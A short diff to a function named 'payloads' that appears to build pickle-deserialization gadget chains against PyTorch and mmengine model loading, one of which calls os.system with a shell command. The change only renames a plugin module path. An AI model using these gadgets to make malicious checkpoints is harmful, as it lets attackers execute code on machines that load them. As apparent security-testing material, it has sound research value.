@@ -144,7 +144,7 @@ def payloads(mark):
         'torch.rebuild': Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (shell, ), {}),
         'torch.jit': Call(torch.jit.load, str(mark)),
         'mmengine.config': Call(Config.fromstring, source, '.py'),
-        'plugin': Call(Global('ifn_plugin.models.conversion', 'load_checkpoint_file'), str(mark)),
+        'plugin': Call(Global('ifn_plugin.checkpoint', 'load_checkpoint_file'), str(mark)),
         'history-methods': Call(HistoryBuffer, state=dict(statistics_methods=dict(mean=statistic('min')))),
         'history-setattr': Call(
             torch._tensor._rebuild_from_type_v2, statistic('current'),
